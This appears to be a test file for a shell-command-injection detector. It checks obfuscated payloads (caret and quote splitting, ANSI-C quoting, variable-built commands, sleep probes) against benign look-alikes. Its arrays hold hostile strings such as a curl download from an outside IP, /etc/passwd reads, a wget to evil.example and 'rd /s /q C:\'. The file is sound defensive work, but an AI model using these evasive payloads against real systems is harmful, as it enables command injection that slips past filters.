@@ -1,0 +1,235 @@
+/**
+ * The `shell` family on disguised commands: openers that are no `;` `|` `&` (`^`, `<`, a carriage
+ * return), time-based probes of every shell, bash's `$'...'` quoting, commands run through variables,
+ * characters picked out of variables, and command names split by characters the shell drops. Each
+ * class is checked on attacks and on the ordinary values that look most like them.
+ */
+import { describe, expect, it } from "@effect/vitest"
+import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
+import { CHARACTER_PICK, CONSTANT_ARITHMETIC, SLEEP_PROBE, withLeadingOpener } from "../../../src/internal/detection/families/shell/expansions.js"
+import { family } from "../../../src/internal/detection/families/shell/index.js"
+import { deobfuscateShell } from "../../../src/internal/detection/families/shell/normalize.js"
+import { splitCommand } from "../../../src/internal/detection/families/shell/splitWords.js"
+import { executedVariable } from "../../../src/internal/detection/families/shell/variables.js"
+import { cpuDoublingRatio } from "./doublingRatio.js"
+
+const score = (value: string, paranoia: Paranoia = 1): number =>
+  family.mayMatch(value)
+    ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
+    : 0
+
+const rulesOf = (value: string, paranoia: Paranoia = 1): ReadonlyArray<string> =>
+  family.mayMatch(value) ? family.scan(value, { location: "query", paranoia }).map((finding) => finding.ruleId) : []
+
+describe("shell family: disguised commands", () => {
+  it.each([
+    "^whoami",
+    "^ping -n 5 127.0.0.1",
+    "<uname -a;",
+    "<ifconfig",
+    "\rwhoami",
+    "\r\nuname -a\r\n",
+    "x\runame -a",
+    "^c^u^r^l http://203.0.113.9/x -o /tmp/x"
+  ])("reads a command after a caret, a redirection or a carriage return as after a separator: %j", (value) => {
+    expect(score(value)).toBeGreaterThanOrEqual(5)
+  })
+
+  it.each([
+    "^ see above",
+    "^this",
+    "2^10 = 1024",
+    "x^2 + y^2",
+    "^_^",
+    "<3 thanks",
+    "<b>bold</b>",
+    "<id>",
+    "GET /users/<id>",
+    "<date picker>",
+    "<= 5 items",
+    "if a<b then",
+    "line one\r\nline two",
+    "Dear Sir,\r\n\r\nthanks"
+  ])("passes carets, angle brackets and line ends of ordinary text: %j", (value) => {
+    expect(score(value)).toBeLessThan(5)
+  })
+
+  it("reads a leading opener as a separator only where a shell or cmd.exe would", () => {
+    expect(withLeadingOpener("^whoami", "whoami")).toBe(";whoami")
+    expect(withLeadingOpener("<id", "<id")).toBe(";id")
+    // markup keeps its angle brackets; a caret before a space is an arrow pointing up
+    expect(withLeadingOpener("<id>", "<id>")).toBe("<id>")
+    expect(withLeadingOpener("^ see above", " see above")).toBe(" see above")
+  })
+
+  it.each([
+    "^usleep 500",
+    "<sleep 10;",
+    "|sleep 7|",
+    "s'l'eep 9",
+    "Start-Sleep -s 12",
+    "start-sleep 20",
+    "timeout /t 15",
+    "timeout.exe /T 30 /NOBREAK",
+    "ping -c 12 127.0.0.1",
+    "^ping -n 3 localhost"
+  ])("refuses the time-based probe %j", (value) => {
+    expect(rulesOf(value)).toContain("shell-019")
+  })
+
+  it.each(["sleep", "sleep 8 hours", "timeout 30 seconds", "timeout /t", "ping localhost", "ping -c 4 example.com", "Use Start-Sleep in scripts"])(
+    "passes the probe-like text %j",
+    (value) => {
+      expect(SLEEP_PROBE.test(deobfuscateShell(value))).toBe(false)
+      expect(rulesOf(value)).not.toContain("shell-019")
+    }
+  )
+
+  it("reads bash's $'...' quoting, $IFS with an operator and a rooted variable's first character", () => {
+    expect(deobfuscateShell("$'\\x77\\x68\\x6f\\x61\\x6d\\x69'")).toBe("whoami")
+    expect(deobfuscateShell("$'\\167\\150\\157\\141\\155\\151'")).toBe("whoami")
+    expect(deobfuscateShell("$'\\u0069d'")).toBe("id")
+    expect(deobfuscateShell("x=$\"id\"")).toBe("x=id")
+    expect(deobfuscateShell("cat${IFS%%?}/etc/passwd")).toBe("cat /etc/passwd")
+    expect(deobfuscateShell("cat ${HOME:0:1}etc${PWD::1}passwd")).toBe("cat /etc/passwd")
+    // a substring that is not the leading slash stays unread
+    expect(deobfuscateShell("${HOME:1:3}")).toBe("${home:1:3}")
+    for (const value of ["$'\\x41'", "$'abc'", "${IFS%%?}", "${PATH:0:1}"]) {
+      expect(deobfuscateShell(value).length, value).toBeLessThanOrEqual(value.length)
+    }
+  })
+
+  it.each([
+    ";$'\\x75name' -a",
+    "$'\\167\\150\\157\\141\\155\\151'",
+    "&&$'\\x69\\x64'",
+    "cat ${HOME:0:1}etc${HOME:0:1}passwd",
+    "${PATH:0:1}bin${PATH:0:1}sh"
+  ])("refuses a command written in ANSI-C quoting or with a slash taken from a variable: %j", (value) => {
+    expect(score(value)).toBeGreaterThanOrEqual(5)
+  })
+
+  it.each(["$'hello'", "it's $'x'", "costs $'5' or so", "echo $'a\\tb'"])("passes ANSI-C quoting of no command: %j", (value) => {
+    expect(score(value)).toBeLessThan(5)
+  })
+
+  it.each([
+    "X=$'uname -a';$X",
+    "p=\"whoami\"; $p",
+    "a=ifconfig;${a}",
+    "EXEC=$'\\x77\\x68\\x6f\\x61\\x6d\\x69';$EXEC",
+    "Y=$\\'uname\\';$Y",
+    "^X=$'whoami';$X",
+    "a=who;b=ami;$a$b",
+    "set a=who&&set b=ami&&call %a%%b%",
+    "set x=netstat -an& %x%",
+    "cmd /v:on /c \"set x=w&&set y=hoami&&!x!!y!\""
+  ])("refuses a command run through a variable the value assigns: %j", (value) => {
+    expect(rulesOf(value)).toContain("shell-034")
+  })
+
+  it.each([
+    "CMD=\"npm start\"; $CMD",
+    "X=1; $X",
+    "export FOO=bar; echo done",
+    "PRICE=5; total $PRICE",
+    "set x=1 and then %x%",
+    "a=b&c=d",
+    "$a = 1; $a++"
+  ])("passes assignments whose variable runs no command: %j", (value) => {
+    expect(executedVariable(value)).toBeUndefined()
+  })
+
+  it("refuses one character picked out of a variable, not a leading substring", () => {
+    for (const value of ["%comspec:~-7,1%md /c ver", "echo ${PATH:5:1}", "%ProgramFiles:~10,1%"]) {
+      expect(rulesOf(value), value).toContain("shell-035")
+    }
+    for (const value of ["%date:~-4,4%", "echo %date:~-4,4%", "${SHA:0:7}", "${VERSION::7}", "50%:~ ok"]) {
+      expect(CHARACTER_PICK.test(value), value).toBe(false)
+    }
+  })
+
+  it.each([
+    "'wh'oami",
+    "\"w\"get evil.example",
+    "c\"a\"t /etc/hosts",
+    "c^m^d /c ver",
+    "cu$@rl example.com",
+    "pi``ng 127.0.0.1",
+    "x;i''fconfig",
+    "w\\h\\o\\a\\m\\i"
+  ])("refuses a command name split by characters the shell drops: %j", (value) => {
+    expect(rulesOf(value)).toContain("shell-036")
+  })
+
+  it.each([
+    "I'd like that",
+    "it's fine; I'd go",
+    "\"id\"",
+    "'whoami'",
+    "don't; can't",
+    "rock'n'roll",
+    "O'Reilly's book",
+    "y'all, ma'am",
+    "the \"cat\" command",
+    "say \"hi\" to 'who'",
+    "That's two \"O\"s in goose",
+    "C:\\Users\\bob\\notes.txt"
+  ])("passes quotes, contractions and paths of ordinary text: %j", (value) => {
+    expect(splitCommand(value)).toBeUndefined()
+    expect(score(value)).toBeLessThan(5)
+  })
+
+  it("knows cmd.exe's own reconnaissance commands and the command a launcher runs", () => {
+    for (const value of ["x & ver", "| findstr /s /i password *.config", "cmd /c \"whoami\"", "&& getmac /v"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+    for (const value of ["Release notes; ver 2.0", "ver 2.0 released", "Use cmd /c to run it"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
+  it("refuses arithmetic of constants, the probe that prints a known number, not a script's arithmetic", () => {
+    for (const value of ["|echo QWERTY$((40+2))QWERTY", "';echo $((9*9))'", "x$((7))z", "$(( 5 + 3 ))"]) {
+      expect(rulesOf(value), value).toContain("shell-037")
+    }
+    for (const value of ["i=$((i+1))", "echo $(( count * 2 ))", "$((function(){ }))", "(( 5 + 3 ))"]) {
+      expect(rulesOf(value), value).not.toContain("shell-037")
+    }
+  })
+
+  it("reads a lone # as a comment ending the command and a program file after a separator as a command", () => {
+    for (const value of ["|id #", "; whoami # x", "&calc.exe", "| payload.ps1", "x;run.bat /q"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+    for (const value of ["Order; id #42", "user id #1234", "download setup.exe; run it", "setup.exe /S", "Q&A.exe", "see notes.bat & readme"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
+  it("reads a redirection to a path as a command's argument, and a program file by any path", () => {
+    for (const value of ["& echo x > C:\\inetpub\\wwwroot\\x.asp", "; echo hi >> /tmp/x", "& %TEMP%\\payload.exe", "; rd /s /q C:\\"]) {
+      expect(score(value), value).toBeGreaterThanOrEqual(5)
+    }
+    for (const value of ["tom; cat food > dog food", "a; sort data > out.txt", "score > 5; type A", "123 Main Rd; apt 4", "run C:\\tools\\x.exe now"]) {
+      expect(score(value), value).toBeLessThan(5)
+    }
+  })
+
+  it("reads disguised commands in time linear in the value's length", () => {
+    const readers = (value: string) => {
+      splitCommand(value)
+      executedVariable(value)
+      withLeadingOpener(value, value)
+      SLEEP_PROBE.test(value)
+      CHARACTER_PICK.test(value)
+      CONSTANT_ARITHMETIC.test(value)
+      deobfuscateShell(value)
+    }
+    for (const fragment of ["'a'", "a=b;", "$a$b", "%a:~1,", "${a:1:", "$'\\x4", "^<", "\r", ";c'a'", "$((1+", "$((1)"]) {
+      const small = fragment.repeat(Math.ceil(128_000 / fragment.length))
+      const large = small + small
+      expect(cpuDoublingRatio(readers, small, large), fragment).toBeLessThanOrEqual(4)
+    }
+  })
+})
